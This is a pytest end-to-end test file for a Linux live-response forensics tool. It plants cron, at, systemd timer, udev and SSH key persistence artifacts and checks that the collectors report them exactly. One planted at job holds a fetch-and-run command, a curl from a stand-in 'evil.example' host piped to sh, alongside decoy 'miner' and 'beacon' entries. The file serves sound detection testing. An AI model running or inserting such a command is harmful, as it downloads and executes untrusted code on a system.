"""The six Linux investigation collectors through the real stack: console -> server -> agent.

State is planted under a directory examined as the collector root (``-root``,
or the agent's ``--root``), and on this machine's real root where only the
live system can show it (a running service, sockets, kernel modules). Each
check is on exact values, the way an analyst would read them.
"""

from __future__ import annotations

import json
import os
import shlex
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from liveresponse.agent.platform.linux.rootfs import FsRoot
from liveresponse.agent.platform.linux.services import systemd_is_running
from liveresponse.testing.cluster import Cluster
from tests.agent.planting import (
    AT_RUN,
    SSH_KEYGEN,
    at_job_name,
    keygen_fingerprints,
    needs_ssh_keygen,
    plant_authorized_keys,
    plant_boot_and_login,
    plant_jobs,
    plant_user_timer,
)

SEVEN_CRON_AND_AT = {
    # (location, line): (user, schedule, command)
    ("/etc/crontab", 4): ("bob", "*/5 * * * *", "/usr/local/bin/sync-all --quiet"),
    ("/etc/cron.d/backup", 3): ("root", "30 2 * * 1-5", "/opt/backup/run.sh --full"),
    ("/etc/cron.daily/cleanup", None): ("root", "25 6 * * *", "/etc/cron.daily/cleanup"),
    ("/var/spool/cron/crontabs/alice", 2): ("alice", "0 */2 * * *", "/home/alice/bin/miner -q"),
    ("/var/spool/cron/crontabs/alice", 3): ("alice", "@reboot", "/home/alice/.local/bin/agent --daemon"),
    ("/var/spool/cron/bob", 1): ("bob", "15 3 * * sun", "/usr/bin/python3 /home/bob/report.py"),
    (f"/var/spool/cron/atjobs/{at_job_name(7, AT_RUN)}", None): (
        "alice", "2030-01-02T03:04:00.000000Z", "/usr/bin/curl -s http://evil.example/x | sh",
    ),
}  # fmt: skip


def quote(text: str) -> str:
    """A console word for any text: double quotes, inner ones doubled (SPEC §4)."""
    return '"' + text.replace('"', '""') + '"'


def run_json(cluster: Cluster, line: str) -> list[dict]:
    result = cluster.console(line, output="json")
    assert result.returncode == 0, (line, result.stdout, result.stderr)
    rows = json.loads(result.stdout)
    assert isinstance(rows, list), rows
    return rows


@pytest.fixture(scope="module")
def planted_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    # A name the console must quote: a space and double quotes.
    root = tmp_path_factory.mktemp("collector") / 'planted "root" dir'
    root.mkdir()
    plant_jobs(root)
    plant_user_timer(root)
    plant_boot_and_login(root)
    if SSH_KEYGEN is not None:  # real keys of three types, and a FIDO one
        plant_authorized_keys(root, tmp_path_factory.mktemp("keys"))
    return root


@pytest.fixture(scope="module")
def rooted_cluster(tmp_path_factory: pytest.TempPathFactory, planted_root: Path) -> Iterator[Cluster]:
    """An agent started with ``lr agent run --root DIR``: the collectors read DIR by default."""
    running = Cluster(tmp_path_factory.mktemp("rooted-cluster"), agent_args=["--root", str(planted_root)]).start()
    try:
        yield running
    finally:
        running.stop()


def of(rows: list[dict], mechanism: str) -> list[dict]:
    return [row for row in rows if row["mechanism"] == mechanism and row["entry"] is not None]


def check_seven_cron_and_at_entries(rows: list[dict]) -> None:
    found = {(row["location"], row["line"]): row for row in of(rows, "cron") + of(rows, "at")}
    for key, expected in SEVEN_CRON_AND_AT.items():
        assert key in found, (key, sorted(found, key=str))
        row = found[key]
        assert (row["user"], row["schedule"], row["command"]) == expected, key


def test_persistence_root_seven_kinds_of_cron_and_at(cluster: Cluster, planted_root: Path) -> None:
    rows = run_json(cluster, f"persistence -root {quote(str(planted_root))}")
    check_seven_cron_and_at_entries(rows)
    assert all(row["root"] == str(planted_root) for row in rows)


@needs_ssh_keygen
def test_persistence_root_authorized_keys_match_ssh_keygen(cluster: Cluster, planted_root: Path) -> None:
    rows = of(run_json(cluster, f"persistence -root {quote(str(planted_root))}"), "ssh-authorized-keys")
    alice = [row for row in rows if row["user"] == "alice"]
    assert [row["location"] for row in alice] == ["/home/alice/.ssh/authorized_keys"] * 4
    assert [row["line"] for row in alice] == [2, 3, 4, 5]
    assert [row["key_type"] for row in alice] == [
        "ssh-ed25519", "ssh-rsa", "ecdsa-sha2-nistp256", "sk-ssh-ed25519@openssh.com",
    ]  # fmt: skip
    keygen = keygen_fingerprints(planted_root / "home/alice/.ssh/authorized_keys")
    assert [(row["bits"], row["fingerprint"]) for row in alice] == keygen
    assert [row["options"] for row in alice] == [
        ['command="/usr/local/bin/sync-all --ssh"', 'from="10.0.0.0/8,192.168.1.*"'],
        [],
        ["no-pty", "no-agent-forwarding"],
        ["no-touch-required"],
    ]
    assert [row["comment"] for row in alice] == ["alice@laptop", "rsa-key", "ecdsa-key", "yubikey"]
    assert (alice[0]["command"], alice[0]["from_hosts"]) == ("/usr/local/bin/sync-all --ssh", "10.0.0.0/8,192.168.1.*")
    root = [(row["location"], row["user"], row["comment"]) for row in rows if row["user"] == "root"]
    assert root == [("/root/.ssh/authorized_keys2", "root", "root-old")]


def next_weekday_0930_utc(now: datetime) -> datetime:
    """The next run of ``OnCalendar=Mon..Fri 09:30`` in UTC (the planted root has no /etc/localtime)."""
    day = now.replace(hour=9, minute=30, second=0, microsecond=0)
    while day <= now or day.weekday() >= 5:
        day += timedelta(days=1)
    return day


def test_user_timer_enabled_by_a_wants_link_with_its_next_run(cluster: Cluster, planted_root: Path) -> None:
    before = datetime.now(UTC)
    tasks = run_json(cluster, f"scheduledtasks user:alice/* -root {quote(str(planted_root))}")
    after = datetime.now(UTC)
    assert [task["name"] for task in tasks] == ["user:alice/beacon.timer"]
    beacon = tasks[0]
    link = "/home/alice/.config/systemd/user/timers.target.wants/beacon.timer"
    assert (beacon["schedule"], beacon["command"], beacon["user"]) == (
        "OnCalendar=Mon..Fri 09:30", "/home/alice/.local/bin/beacon --ping", "alice",
    )  # fmt: skip
    assert (beacon["source"], beacon["enabled"], beacon["enabled_by"]) == (
        "/home/alice/.config/systemd/user/beacon.timer", True, [link],
    )  # fmt: skip
    expected = {next_weekday_0930_utc(moment).isoformat(timespec="microseconds") for moment in (before, after)}
    assert beacon["next_run"] in {text.replace("+00:00", "Z") for text in expected}
    systemd = {row["entry"]: row for row in of(run_json(cluster, f"persistence -root {quote(str(planted_root))}"),
                                               "systemd")}  # fmt: skip
    timer = systemd["beacon.timer"]
    assert (timer["location"], timer["user"], timer["wanted_by"], timer["schedule"], timer["service"]) == (
        link, "alice", "timers.target", "Mon..Fri 09:30", "beacon.service",
    )  # fmt: skip


def test_udev_run_rule(cluster: Cluster, planted_root: Path) -> None:
    udev = of(run_json(cluster, f"persistence -root {quote(str(planted_root))}"), "udev")
    assert [(row["location"], row["line"], row["user"], row["command"], row["key"]) for row in udev] == [
        ("/etc/udev/rules.d/99-usb.rules", 2, "root", "/usr/local/bin/sync-all --usb", "RUN"),
    ]
    assert udev[0]["entry"] == 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/local/bin/sync-all --usb"'
    assert udev[0]["target"] == "/usr/local/bin/sync-all"


def test_scheduledtasks_root_with_a_name_filter(cluster: Cluster, planted_root: Path) -> None:
    tasks = run_json(cluster, f"scheduledtasks /var/spool/cron/* -root {quote(str(planted_root))}")
    assert [(t["name"], t["schedule"], t["user"], t["command"]) for t in tasks] == [
        ("/var/spool/cron/crontabs/alice:2", "0 */2 * * *", "alice", "/home/alice/bin/miner -q"),
        ("/var/spool/cron/crontabs/alice:3", "@reboot", "alice", "/home/alice/.local/bin/agent --daemon"),
        ("/var/spool/cron/bob:1", "15 3 * * sun", "bob", "/usr/bin/python3 /home/bob/report.py"),
    ]
    assert all(task["root"] == str(planted_root) for task in tasks)
    at = run_json(cluster, f"scheduledtasks at:7 -root {quote(str(planted_root))}")
    assert [(t["schedule"], t["next_run"], t["user"]) for t in at] == [
        ("2030-01-02T03:04:00.000000Z", "2030-01-02T03:04:00.000000Z", "alice"),
    ]


def test_agent_root_is_the_default_collector_root(rooted_cluster: Cluster, planted_root: Path) -> None:
    rows = run_json(rooted_cluster, "persistence")
    check_seven_cron_and_at_entries(rows)
    assert all(row["root"] == str(planted_root) for row in rows)
    tasks = run_json(rooted_cluster, "scheduledtasks user:*")
    assert [task["name"] for task in tasks] == ["user:alice/beacon.timer"]


@pytest.mark.skipif(os.geteuid() != 0, reason="plants a unit in /etc/systemd/system")
@pytest.mark.skipif(systemd_is_running(FsRoot("/")), reason="a running systemd would need a daemon-reload")
def test_a_planted_unit_runs_with_its_main_pid(cluster: Cluster) -> None:
    name = f"lr-e2e-{uuid.uuid4().hex[:10]}"
    argv = [sys.executable, "-c", "import time; time.sleep(120)", name]
    unit = Path(f"/etc/systemd/system/{name}.service")
    process = None
    try:
        unit.write_text(f"[Unit]\nDescription=liveresponse e2e {name}\n[Service]\nExecStart={shlex.join(argv)}\n")
        stopped = run_json(cluster, f"services -name {name}")
        assert [(r["name"], r["state"], r["main_pid"]) for r in stopped] == [(f"{name}.service", "stopped", None)]
        process = subprocess.Popen(argv)
        time.sleep(0.3)  # let exec finish so /proc shows the new command line
        rows = run_json(cluster, f"services -name {name}")
        assert [(r["name"], r["state"], r["main_pid"], r["unit_file"], r["exec"]) for r in rows] == [
            (f"{name}.service", "running", process.pid, str(unit), shlex.join(argv)),
        ]
        assert (rows[0]["description"], rows[0]["state_reason"]) == (f"liveresponse e2e {name}", None)
    finally:
        unit.unlink(missing_ok=True)
        if process is not None:
            process.kill()
            process.wait()


def test_connections_of_this_process(cluster: Cluster) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        with socket.create_connection(("127.0.0.1", port)) as client:
            accepted, _ = listener.accept()
            with accepted:
                client_port = client.getsockname()[1]
                rows = run_json(cluster, "connections")
    me = os.getpid()
    tcp = [row for row in rows if row["proto"] == "tcp"]
    listening = [r for r in tcp if r["local_port"] == port and r["state"] == "LISTEN"]
    assert [(r["local_address"], r["remote_address"], r["remote_port"], r["pid"]) for r in listening] == [
        ("127.0.0.1", None, None, me),
    ]
    client_end = [r for r in tcp if r["local_port"] == client_port and r["remote_port"] == port]
    server_end = [r for r in tcp if r["local_port"] == port and r["remote_port"] == client_port]
    for end in (client_end, server_end):
        assert [(r["state"], r["pid"], r["owner_unknown_reason"]) for r in end] == [("ESTABLISHED", me, None)]
    assert listening[0]["process"] == client_end[0]["process"] == server_end[0]["process"]
    names = run_json(cluster, f"processes {me}")
    assert listening[0]["process"] == names[0]["name"]  # the same name processes shows


def test_drivers_lists_kernel_modules(cluster: Cluster) -> None:
    rows = run_json(cluster, "drivers")
    assert rows
    for row in rows:
        assert row["name"] and row["state"] in ("live", "loading", "unloading", "builtin"), row
        assert isinstance(row["used_by"], list)
